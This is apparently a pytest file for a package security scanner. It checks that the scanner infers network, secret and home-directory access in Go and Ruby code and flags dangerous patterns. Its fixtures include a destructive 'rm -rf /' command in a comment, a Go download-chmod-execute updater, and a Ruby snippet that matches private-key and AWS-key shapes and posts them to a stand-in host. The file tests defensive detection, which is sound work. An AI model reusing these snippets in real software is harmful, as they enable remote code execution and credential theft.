"""Go, Ruby and the other languages read lexically: capabilities and the two generic rules."""

from __future__ import annotations

import pytest

from tank.core.permissions import parse_permissions
from tank.scanner import load_rules, scan_files
from tank.scanner.capabilities import infer, undeclared
from tank.scanner.capabilities_generic import language_of, literals

GO_CLOCK = (
    'package main\n\nimport (\n\t"net/http"\n\t"os"\n)\n\n'
    "// fetch from https://example.org/ in a comment: not a host\n"
    "func now() {\n\tc := &http.Client{}\n"
    '\tc.Get("https://worldtimeapi.org/api/timezone/Etc/UTC")\n'
    '\t_ = os.Getenv("MEETING_API_TOKEN")\n}\n'
)
RUBY_SETTINGS = (
    "require 'yaml'\n# system('rm -rf /') in a comment runs nothing\n"
    "def settings\n  f = File.join(Dir.home, '.config', 'todo-sync', 'config.yml')\n"
    "  YAML.safe_load(File.read(f))\nend\n"
    'puts "- [ ] `#{1}` in a string is text"\n'
)


def _undeclared(files: dict[str, tuple[str, str]], permissions: dict[str, object]) -> set[str]:
    granted, problems = parse_permissions(permissions)
    assert not problems
    return {f.message for f in undeclared(infer(files), granted, load_rules())}


def test_go_network_host_and_secret_are_inferred() -> None:
    found = _undeclared({"clock.go": ("any", GO_CLOCK)}, {})
    assert any("worldtimeapi.org" in m for m in found)
    assert any("MEETING_API_TOKEN" in m for m in found)
    assert not any("example.org" in m for m in found)


def test_ruby_home_read_is_inferred_and_strings_and_comments_run_nothing() -> None:
    found = _undeclared({"lib/settings.rb": ("any", RUBY_SETTINGS)}, {})
    assert any("~/.config/todo-sync/config.yml" in m for m in found)
    assert not any("runs other programs" in m for m in found)
    granted = {"filesystem": {"read": ["~/.config/todo-sync/**"]}}
    assert _undeclared({"lib/settings.rb": ("any", RUBY_SETTINGS)}, granted) == set()


@pytest.mark.parametrize(
    ("path", "text", "name"),
    [
        ("main.go", "package main", "go"),
        ("bin/tool", "#!/usr/bin/env ruby\nputs 1\n", "ruby"),
        ("src/lib.rs", "fn main() {}", "rust"),
        ("x.pl", "print 1;", "perl"),
        ("scripts/run.py", "print(1)", None),
        ("README.txt", "hello", None),
    ],
)
def test_language_by_suffix_and_shebang(path: str, text: str, name: str | None) -> None:
    found = language_of(path, text)
    assert (found.name if found else None) == name


def test_literals_skip_comments() -> None:
    language = language_of("a.go", "")
    assert language is not None
    values = [v for _, v in literals('// "not this"\nx := "this"\ny := `raw`\n', language)]
    assert values == ["this", "raw"]


def test_download_chmod_run_in_go_is_refused_and_a_plain_checker_is_not() -> None:
    updater = (
        'package u\nimport ("net/http"; "os"; "os/exec"; "io")\n'
        "func R(u, b string) {\n r, _ := http.Get(u)\n"
        " f, _ := os.OpenFile(b, os.O_CREATE|os.O_WRONLY, 0o755)\n io.Copy(f, r.Body)\n"
        " exec.Command(b).Start()\n}\n"
    )
    found = scan_files({"u/u.go": updater.encode()}).findings
    assert any(f.rule == "code.download_exec" and f.severity == "critical" for f in found)
    plain = updater.replace("0o755", "0o644")
    assert not any(
        f.rule == "code.download_exec" for f in scan_files({"u/u.go": plain.encode()}).findings
    )


def test_secret_shapes_sent_out_in_ruby_is_refused_and_a_local_scanner_is_not() -> None:
    harvest = (
        "require 'net/http'\n"
        "P = [/-----BEGIN [A-Z ]*PRIVATE KEY-----/, /(?:AKIA|ASIA)[A-Z0-9]{16}/]\n"
        "def up(t)\n"
        "  Net::HTTP.post(URI('https://paste.example.net/x'), t) if P.any? { |p| p =~ t }\n"
        "end\n"
    )
    found = scan_files({"lib/s.rb": harvest.encode()}).findings
    assert any(f.rule == "code.secret_harvest" for f in found)
    local = harvest.replace("Net::HTTP.post(URI('https://paste.example.net/x'), t)", "puts t")
    assert not any(
        f.rule == "code.secret_harvest" for f in scan_files({"lib/s.rb": local.encode()}).findings
    )
